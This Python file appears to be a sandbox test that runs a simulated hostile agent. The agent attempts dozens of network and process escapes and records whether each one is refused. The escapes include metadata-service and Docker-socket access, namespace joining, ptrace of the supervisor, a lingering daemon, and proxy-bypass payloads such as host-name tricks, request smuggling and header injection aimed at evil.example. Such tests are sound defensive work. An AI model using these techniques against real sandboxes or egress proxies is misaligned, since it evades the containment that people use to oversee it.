"""A hostile agent in a network of its own: whatever it can think of to get out.

Run by the test as the agent's program, with the standard library only. Each trick sends a word of
its own and says what it got; `answers.json` has the outcome of all, by name.
"""

from __future__ import annotations

import contextlib
import ctypes
import fcntl
import json
import os
import socket
import struct
import subprocess
import sys
import urllib.parse
from collections.abc import Callable
from pathlib import Path
from typing import Any

# What the test says of the world: ports on the host's loopback, the name of a socket.
WORLD: dict[str, Any] = {}

REFUSED = "OSError"
PTRACE_ATTACH, CLONE_NEWNET, CLONE_NEWNS, CLONE_NEWUSER = 16, 0x40000000, 0x20000, 0x10000000

Trick = Callable[[bytes], str]
TRICKS: dict[str, tuple[Trick, str]] = {}  # with a pattern of what it may get at most
HARMLESS: dict[str, Trick] = {}


def trick(expected: str) -> Callable[[Trick], Trick]:
    def keep(function: Trick) -> Trick:
        TRICKS[function.__name__] = (function, expected)
        return function

    return keep


def harmless(function: Trick) -> Trick:
    HARMLESS[function.__name__] = function
    return function


def word(name: str) -> bytes:
    return f"<{name} got out>".encode()


def ask(raw: bytes, port: int | None = None) -> str:
    """What the proxy (or another port of this network) answers to some bytes."""
    proxy = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"]).port
    with socket.create_connection(("127.0.0.1", port or proxy), timeout=20) as it:
        answer = b""
        with contextlib.suppress(ConnectionError):
            it.sendall(raw)
            while more := it.recv(65536):
                answer += more
        return answer.decode("latin-1")


def tunnel(target: str, said: bytes, *lines: str) -> str:
    """`CONNECT target`, and the word at once behind it."""
    head = "\r\n".join([f"CONNECT {target} HTTP/1.1", *lines, "", ""])
    return ask(head.encode("latin-1") + said)


def plain_head(target: str, said: bytes, *lines: str, method: str = "GET") -> str:
    return "\r\n".join([f"{method} {target} HTTP/1.1", f"X-Word: {said.decode()}", *lines, "", ""])


def plain(target: str, said: bytes, *lines: str, method: str = "GET") -> str:
    return ask(plain_head(target, said, *lines, method=method).encode("latin-1"))


def reach(family: int, address: Any, said: bytes, kind: int = socket.SOCK_STREAM) -> str:
    with socket.socket(family, kind) as it:
        it.settimeout(5)
        it.connect(address)
        it.sendall(said)
        return "sent" if kind == socket.SOCK_DGRAM else str(it.recv(100))


# ---- without the proxy -----------------------------------------------------------------------


@trick(REFUSED)
def a_service_on_the_loopback_of_the_host(said: bytes) -> str:
    return reach(socket.AF_INET, ("127.0.0.1", WORLD["host"]), said)


@trick(REFUSED)
def another_loopback_address(said: bytes) -> str:
    return reach(socket.AF_INET, ("127.0.0.2", WORLD["near"]), said)


@trick(REFUSED)
def any_address_as_loopback(said: bytes) -> str:
    return reach(socket.AF_INET, ("0.0.0.0", WORLD["host"]), said)


@trick(REFUSED)
def loopback_by_ipv6(said: bytes) -> str:
    return reach(socket.AF_INET6, ("::1", WORLD["host"]), said)


@trick(REFUSED)
def loopback_by_mapped_ipv6(said: bytes) -> str:
    return reach(socket.AF_INET6, ("::ffff:127.0.0.1", WORLD["host"]), said)


@trick(REFUSED)
def an_address_of_the_internet(said: bytes) -> str:
    return reach(socket.AF_INET, ("192.0.2.1", 443), said)


@trick(REFUSED)
def an_ipv6_address_of_the_internet(said: bytes) -> str:
    return reach(socket.AF_INET6, ("2001:db8::1", 443), said)


@trick(REFUSED)
def the_metadata_service(said: bytes) -> str:
    return reach(socket.AF_INET, ("169.254.169.254", 80), said)


@trick(REFUSED)
def the_platform_of_azure(said: bytes) -> str:
    return reach(socket.AF_INET, ("168.63.129.16", 80), said)


@trick("nothing came|OSError")
def datagrams_to_the_host(said: bytes) -> str:
    with contextlib.suppress(ConnectionRefusedError):
        reach(socket.AF_INET, ("127.0.0.1", WORLD["datagrams"]), said, socket.SOCK_DGRAM)
    return "nothing came"


@trick(REFUSED)
def a_name_server(said: bytes) -> str:
    return reach(socket.AF_INET, ("192.0.2.53", 53), said, socket.SOCK_DGRAM)


@trick(REFUSED)
def looking_up_an_allowed_name(said: bytes) -> str:
    return str(socket.getaddrinfo("allowed.example", 443))


@trick(REFUSED)
def an_abstract_socket_of_the_host(said: bytes) -> str:
    return reach(socket.AF_UNIX, f"\0{WORLD['name']}", said)


@trick(r"\[\]")
def services_on_sockets_below_run(said: bytes) -> str:
    return str(list(Path("/run").iterdir()))


@trick(REFUSED)
def the_resolver_on_its_socket(said: bytes) -> str:
    return reach(socket.AF_UNIX, "/run/systemd/resolve/io.systemd.Resolve", said)


@trick(REFUSED)
def docker_on_its_socket(said: bytes) -> str:
    return reach(socket.AF_UNIX, "/var/run/docker.sock", said)


@trick(REFUSED)
def raw_packets(said: bytes) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as it:
        return str(it.sendto(said, ("127.0.0.1", 0)))


@trick(REFUSED)
def ethernet_frames(said: bytes) -> str:
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as it:
        return str(it.sendto(said, ("lo", 0)))


@trick(r"Errno 97\b")
def the_hypervisor(said: bytes) -> str:
    return reach(socket.AF_VSOCK, (2, 1024), said)


@trick(r"Errno 38\b")
def sockets_by_io_uring(said: bytes) -> str:
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.syscall(425, 1, ctypes.create_string_buffer(120)) < 0:
        raise OSError(ctypes.get_errno(), "io_uring_setup")
    return "made"


@trick(r"Errno 38\b|^other machine$")
def calls_by_another_table(said: bytes) -> str:
    if os.uname().machine != "x86_64":
        return "other machine"
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.syscall(0x40000000 + 41, 40, 1, 0) < 0:
        raise OSError(ctypes.get_errno(), "socket")
    return "made"


@trick(REFUSED)
def a_ping(said: bytes) -> str:
    return reach(socket.AF_INET, ("192.0.2.1", 0), said, socket.SOCK_DGRAM)


@trick(r"\['lo'\]")
def other_interfaces(said: bytes) -> str:
    return str([name for _, name in socket.if_nameindex()])


@trick(REFUSED)
def taking_the_loopback_down(said: bytes) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as it:
        return str(fcntl.ioctl(it, 0x8914, struct.pack("16sH22x", b"lo", 0)))


def _libc(name: str, *arguments: int) -> str:
    libc = ctypes.CDLL(None, use_errno=True)
    if getattr(libc, name)(*arguments) != 0:
        raise OSError(ctypes.get_errno(), name)
    return "done"


@trick(REFUSED)
def the_network_of_the_first_process(said: bytes) -> str:
    with Path("/proc/1/ns/net").open() as file:
        return _libc("setns", file.fileno(), CLONE_NEWNET)


@trick(REFUSED)
def the_network_of_who_started_us(said: bytes) -> str:
    with Path(f"/proc/{WORLD['supervisor']}/ns/net").open() as file:
        return _libc("setns", file.fileno(), CLONE_NEWNET)


@trick(REFUSED)
def open_files_of_who_started_us(said: bytes) -> str:
    return str(list(Path(f"/proc/{WORLD['supervisor']}/fd").iterdir()))


@trick(REFUSED)
def tracing_who_started_us(said: bytes) -> str:
    return _libc("ptrace", PTRACE_ATTACH, WORLD["supervisor"], 0, 0)


@trick("^0 1 2$")
def open_files_that_we_inherited(said: bytes) -> str:
    return " ".join(str(fd) for fd in range(1000) if Path(f"/proc/self/fd/{fd}").exists())


def _in_a_user_namespace(flags: int, then: Callable[[], str]) -> str:
    """What somebody gets who makes himself root of a namespace, where the kernel lets him."""
    reader, writer = os.pipe()
    if os.fork() == 0:
        try:
            _libc("unshare", CLONE_NEWUSER | flags)
            answer = then()
        except OSError as error:
            answer = f"OSError {error}"
        os.write(writer, answer.encode())
        os._exit(0)
    os.close(writer)
    os.wait()
    with os.fdopen(reader) as file:
        return file.read()


@trick(REFUSED)
def a_namespace_of_our_own(said: bytes) -> str:
    def connect() -> str:
        return reach(socket.AF_INET, ("127.0.0.1", WORLD["host"]), said)

    return _in_a_user_namespace(CLONE_NEWNET, connect)


@trick(REFUSED)
def uncovering_run(said: bytes) -> str:
    return _in_a_user_namespace(CLONE_NEWNS, lambda: _umount(b"/run"))


def _umount(path: bytes) -> str:
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.umount2(path, 0) != 0:
        raise OSError(ctypes.get_errno(), "umount")
    return "uncovered"


@trick("^1$")
def rights_of_a_setuid_program(said: bytes) -> str:
    lines = Path("/proc/self/status").read_text().splitlines()
    return next(line.split()[1] for line in lines if line.startswith("NoNewPrivs"))


@trick("OSError|^[1-9]")
def sudo(said: bytes) -> str:
    nothing = subprocess.DEVNULL
    return str(subprocess.call(["sudo", "-n", "true"], stdout=nothing, stderr=nothing))


@trick("left")
def a_daemon_that_stays(said: bytes) -> str:
    if os.fork() == 0:
        os.setsid()
        if os.fork():
            os._exit(0)
        Path("daemon.pid").write_text(str(os.getpid()))
        sleeping = [sys.executable, "-c", "import time; time.sleep(1000)"]
        os.execve(sys.executable, sleeping, {})  # noqa: S606
    os.wait()
    while not Path("daemon.pid").exists() or not Path("daemon.pid").read_text():
        pass
    return "left"


# ---- through the proxy -----------------------------------------------------------------------


def connecting(name: str, target: str, expected: str, *lines: str) -> None:
    def function(said: bytes) -> str:
        return tunnel(target, said, *lines)

    TRICKS[name] = (function, expected)


def asking(name: str, target: str, expected: str, *lines: str, method: str = "GET") -> None:
    def function(said: bytes) -> str:
        return plain(target, said, *lines, method=method)

    TRICKS[name] = (function, expected)


def sending(name: str, raw: bytes, expected: str) -> None:
    """`WORD` in the bytes is the trick's own."""

    def function(said: bytes) -> str:
        return ask(raw.replace(b"WORD", said))

    TRICKS[name] = (function, expected)


NOT_IN_THE_LIST = "^HTTP/1.1 403 .*is not in `runtime.egress`"
NO_NAME = "^HTTP/1.1 403 .*is no name of a host"
NOT_OUT = "^HTTP/1.1 403 .*no address out in the internet"
UNREADABLE = "^HTTP/1.1 400 "
BAD_PORT = "^HTTP/1.1 403 .*443 is the port"

connecting("another_host", "evil.example:443", NOT_IN_THE_LIST)
connecting("an_allowed_name_below_another", "allowed.example.evil.example:443", NOT_IN_THE_LIST)
connecting("an_allowed_name_as_an_end", "evilallowed.example:443", NOT_IN_THE_LIST)
connecting("below_an_exact_name", "evil.allowed.example:443", NOT_IN_THE_LIST)
connecting("the_name_above_a_wildcard", "wild.example:443", NOT_IN_THE_LIST)
connecting("a_wildcard_as_an_end", "evilwild.example:443", NOT_IN_THE_LIST)
connecting("the_wildcard_itself", "*.wild.example:443", NO_NAME)
connecting("upper_case_and_a_dot", "EVIL.example.:443", NOT_IN_THE_LIST)
connecting("user_information", "allowed.example@evil.example:443", UNREADABLE)
connecting("a_backslash", "evil.example\\.wild.example:443", UNREADABLE)
connecting("a_zero_byte", "evil.example\0.wild.example:443", NO_NAME)
connecting("a_percent_sign", "evil.example%2f.wild.example:443", NO_NAME)
connecting("another_script", "ev\u00eel.wild.example:443", NO_NAME)
connecting("a_fragment", "evil.example#.wild.example:443", UNREADABLE)
connecting("loopback", "127.0.0.1:443", NO_NAME)
connecting("loopback_by_name", "localhost:443", NO_NAME)
connecting("loopback_as_a_number", "2130706433:443", NO_NAME)
connecting("loopback_as_an_octal_number", "0177.0.0.1:443", NO_NAME)
connecting("loopback_as_a_hexadecimal_number", "0x7f.1:443", NO_NAME)
connecting("loopback_as_ipv6", "[::1]:443", NO_NAME)
connecting("loopback_as_mapped_ipv6", "[::ffff:127.0.0.1]:443", NO_NAME)
connecting("a_zone", "[fe80::1%25lo]:443", UNREADABLE)
connecting("metadata_by_proxy", "169.254.169.254:443", NO_NAME)
connecting("ssh_of_an_allowed_host", "allowed.example:22", BAD_PORT)
connecting("a_tunnel_to_port_80", "allowed.example:80", BAD_PORT)
connecting("two_ports", "allowed.example:443:22", UNREADABLE)
connecting("a_port_beyond_all", "allowed.example:65979", BAD_PORT)
connecting("no_port", "allowed.example", UNREADABLE)
connecting("a_name_that_points_near", "rebound.wild.example:443", NOT_OUT)
connecting("a_name_that_points_to_metadata", "metadata.wild.example:443", NOT_OUT)
connecting("a_body_before_the_tunnel", "evil.example:443", NOT_IN_THE_LIST, "Content-Length: 9")
asking("plain_to_another_host", "http://evil.example/", NOT_IN_THE_LIST)
asking("plain_with_user_information", "http://allowed.example@evil.example/", UNREADABLE)
asking("plain_with_a_backslash", "http://allowed.example\\@evil.example/", UNREADABLE)
asking("plain_to_another_port", "http://allowed.example:8080/", BAD_PORT)
asking("plain_to_the_port_of_tls", "http://allowed.example:443/", BAD_PORT)
asking("plain_to_an_address", "http://[::1]/", NO_NAME)
asking("tls_by_the_proxy", "https://allowed.example/", UNREADABLE)
asking("another_scheme", "ftp://allowed.example/", UNREADABLE)
asking("only_a_path", "/", UNREADABLE, "Host: allowed.example")
asking("no_authority", "http:///evil.example/", UNREADABLE)
asking("a_body_in_chunks", "http://allowed.example/", UNREADABLE, "Transfer-Encoding: chunked")
asking(
    "two_lengths",
    "http://allowed.example/",
    UNREADABLE,
    "Content-Length: 4",
    "Content-Length: 400",
    method="POST",
)
asking("a_length_below_none", "http://allowed.example/", UNREADABLE, "Content-Length: -1")
asking("a_folded_line", "http://allowed.example/", UNREADABLE, "X: a", " Host: evil.example")
asking("a_line_without_a_name", "http://allowed.example/", UNREADABLE, ": evil.example")
asking("a_space_before_the_colon", "http://allowed.example/", UNREADABLE, "Host : evil.example")
sending("a_lone_line_feed", b"GET http://allowed.example/ HTTP/1.1\nX: WORD\r\n\r\n", UNREADABLE)
sending(
    "a_line_feed_in_a_header",
    b"GET http://allowed.example/ HTTP/1.1\r\nX: a\nHost: evil.example\nX: WORD\r\n\r\n",
    UNREADABLE,
)
sending(
    "a_carriage_return_in_a_header",
    b"GET http://allowed.example/ HTTP/1.1\r\nX: a\rX: WORD\r\n\r\n",
    UNREADABLE,
)
sending("an_empty_line_first", b"\r\nCONNECT evil.example:443 HTTP/1.1\r\n\r\nWORD", UNREADABLE)
sending("http_0_9", b"GET http://allowed.example/WORD\r\n\r\n", UNREADABLE)
sending("http_2", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\nWORD", UNREADABLE)
sending(
    "header_lines_without_an_end", b"GET / HTTP/1.1\r\n" + b"X: WORD\r\n" * 9000, "^$|^HTTP.* 400"
)
sending(
    "a_target_without_an_end",
    b"GET http://allowed.example/" + b"WORD" * 2000 + b" HTTP/1.1\r\n\r\n",
    "^$|^HTTP.* 400",
)


@trick(NO_NAME)
def the_loopback_of_the_host_by_its_port(said: bytes) -> str:
    return tunnel(f"127.0.0.1:{WORLD['evil']}", said)


@trick(NO_NAME)
def the_proxy_by_the_proxy(said: bytes) -> str:
    port = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"]).port
    return tunnel(f"127.0.0.1:{port}", said)


# ---- what reaches the allowed host, and only it ----------------------------------------------


@harmless
def another_host_header_before_a_tunnel(said: bytes) -> str:
    return tunnel("allowed.example:443", said, "Host: evil.example")


@harmless
def another_host_header(said: bytes) -> str:
    return plain("http://allowed.example/a", said, "Host: evil.example", "Host: evil.example")


@harmless
def a_second_request_for_another_host(said: bytes) -> str:
    second = "GET http://evil.example/ HTTP/1.1\r\n\r\n"
    return ask(plain_head("http://allowed.example/", said).encode() + second.encode())


@harmless
def a_second_request_after_a_body(said: bytes) -> str:
    head = plain_head("http://allowed.example/", said, "Content-Length: 4", method="POST")
    return ask(head.encode() + b"abcdGET http://evil.example/ HTTP/1.1\r\n\r\n")


@harmless
def keeping_the_connection(said: bytes) -> str:
    kept = ("Connection: keep-alive", "Proxy-Connection: keep-alive", "Keep-Alive: 60")
    head = plain_head("http://ALLOWED.example.:80/", said, *kept, "Upgrade: h2c")
    return ask(head.encode() + b"CONNECT evil.example:443 HTTP/1.1\r\n\r\n")


@harmless
def a_name_that_points_near_and_out(said: bytes) -> str:
    return tunnel("mixed.wild.example:443", said)


@harmless
def more_connections_than_are_served(said: bytes) -> str:
    proxy = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"]).port
    many = [socket.create_connection(("127.0.0.1", proxy)) for _ in range(300)]
    served = tunnel("allowed.example:443", b"<too many>")
    for one in many:
        one.close()
    answer = "served" if served else ""
    while not answer:  # until those are noticed to be gone
        answer = tunnel("allowed.example:443", said)
    return answer


def main() -> None:
    WORLD.update(json.loads(Path("world.json").read_text()))
    answers = {}
    refused = {name: function for name, (function, _) in TRICKS.items()}
    for name, function in (refused | HARMLESS).items():
        try:
            answers[name] = function(word(name))
        except OSError as error:
            answers[name] = f"OSError {error}"
    Path("answers.json").write_text(json.dumps(answers))


if __name__ == "__main__":
    main()
